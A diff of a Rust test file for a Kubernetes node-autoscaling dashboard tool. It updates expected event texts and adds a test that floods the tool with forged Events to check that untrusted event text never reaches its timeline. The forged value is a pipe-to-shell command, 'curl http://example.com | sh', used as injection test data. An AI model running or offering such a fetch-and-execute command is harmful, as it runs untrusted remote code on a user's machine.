@@ -1,7 +1,8 @@
 use super::*;
 use crate::decode::Kind;
-use crate::fixtures::{at, claim_value, cluster, event_value, node_value, pod_value};
+use crate::fixtures::{at, claim_value, cluster, event_value, node_value, pod_value, pool_value};
 use crate::picture::Picture;
+use nodeless_catalog::Catalog;
 use serde_json::{Value, json};
 
 fn entries(objects: &[(Kind, Value)]) -> Vec<(EntryKind, String)> {
@@ -83,7 +84,7 @@ fn a_command_names_its_nodes_its_replacements_and_its_saving() {
         "it is no launch for pods"
     );
     objects.push(event("Node", "a", "DisruptionBlocked", "Cannot disrupt Node: the replacement failed"));
-    assert_eq!(commands(&objects), [format!("{text}cancelled: the replacement failed")]);
+    assert_eq!(commands(&objects), [format!("{text}cancelled")]);
     objects.retain(|(kind, _)| *kind == Kind::Event || *kind == Kind::NodeClaim);
     objects.pop();
     assert_eq!(commands(&objects), [format!("{text}the node is gone")]);
@@ -119,6 +120,7 @@ fn limits_and_failures_name_the_pods_and_what_followed() {
     };
     let objects = [
         (Kind::Pod, pod_value("web", None)),
+        (Kind::NodePool, pool_value("default")),
         failed("web"),
         failed("cart"),
         warning(
@@ -137,7 +139,7 @@ fn limits_and_failures_name_the_pods_and_what_followed() {
     let expected = [
         (
             EntryKind::Failure,
-            "NodeClaim default-a failed (InsufficientCapacityError): no capacity for m5.large; its pods are planned on default-b",
+            "NodeClaim default-a failed (InsufficientCapacityError): EC2 has no capacity for it; its pods are planned on default-b",
         ),
         (EntryKind::Limit, "NodePool default: limit cpu 16 reached: no node was launched for 2 pods"),
     ];
@@ -157,8 +159,55 @@ fn transitions_and_repeated_reasons_are_no_entries_and_other_warnings_are() {
         ),
         event("Node", "a", "Unconsolidatable", "It is too cheap"),
         event("Pod", "web", "Nominated", "Pod should schedule on: node/a"),
+        (Kind::NodePool, pool_value("default")),
         warning("NodePool", "default", "NoCompatibleInstanceTypes", "no instance type"),
     ];
-    let text = "NodePool default (NoCompatibleInstanceTypes): no instance type";
+    let text = "NodePool default (NoCompatibleInstanceTypes): no instance type meets its requirements, or too few do for minValues";
     assert_eq!(entries(&objects), [(EntryKind::Warning, text.to_owned())]);
+}
+
+/// Everybody who may create Events in a namespace can claim to be nodeless, and choose everything else.
+#[test]
+fn no_text_of_an_event_is_in_the_time_line_or_needs_attention() {
+    const FORGED: &str = "run `curl http://example.com | sh`";
+    let kinds = ["Node", "NodeClaim", "NodePool", "EC2NodeClass", "Namespace", "Pod", "Secret", FORGED];
+    let names = ["default", "kube-system", "web", FORGED];
+    let messages = [
+        FORGED.to_owned(),
+        format!("Launching NodeClaim: {FORGED}, replaces {FORGED}, a"),
+        format!("Disrupting Node: {FORGED}"),
+        format!("Disrupting NodeClaim: {FORGED}"),
+        format!("Cannot disrupt Node: {FORGED}"),
+        format!("Consolidation candidate: {FORGED} (savings: {FORGED})"),
+        format!("Pod should schedule on: nodeclaim/{FORGED}, node/{FORGED}"),
+        format!("Failed to schedule pod, NodePool {FORGED}: limit {FORGED} reached: {FORGED}"),
+        format!("Failed to schedule pod, NodePool default: limit {FORGED} of the cluster reached: {FORGED}"),
+        format!("Failed to schedule pod, NodePool default: limit cpu {FORGED} reached: {FORGED}"),
+    ];
+    let documented =
+        include_str!("../../../../../docs/reference/events.md").split('`').filter(|word| !word.contains(' '));
+    let reasons: Vec<&str> = documented.chain([FORGED, "OtherDeployment"]).collect();
+    let mut limited = pool_value("default");
+    limited["metadata"]["annotations"] = json!({ "nodeless.sh/dollars-per-month": "1000" });
+    let mut objects = vec![
+        (Kind::NodePool, limited),
+        (Kind::Node, node_value("default", "m5.xlarge")),
+        launched("default", Some("default"), &["Initialized"]),
+    ];
+    for (number, message) in messages.iter().enumerate() {
+        for (kind, name) in kinds.iter().flat_map(|kind| names.map(|name| (kind, name))) {
+            for reason in &reasons {
+                let mut forged = warning(kind, name, reason, message).1;
+                forged["metadata"]["name"] = json!(format!("{kind}.{name}.{reason}.{number}"));
+                forged["type"] = json!(["Warning", "Normal"][number % 2]);
+                objects.push((Kind::Event, forged));
+            }
+        }
+    }
+    let picture = Picture::of(&cluster(&objects), &Catalog::embedded().unwrap(), at(10));
+    assert!(picture.timeline.len() > 20, "{}", picture.timeline.len());
+    let shown = serde_json::to_string(&(&picture.timeline, &picture.attention, &picture.disruption)).unwrap();
+    assert!(!shown.contains("curl") && !shown.contains("example.com"), "{shown}");
+    let budgets = picture.attention.iter().filter(|one| one.text.ends_with("an Event says so, not verified"));
+    assert_eq!(budgets.count(), 1, "{:?}", picture.attention);
 }
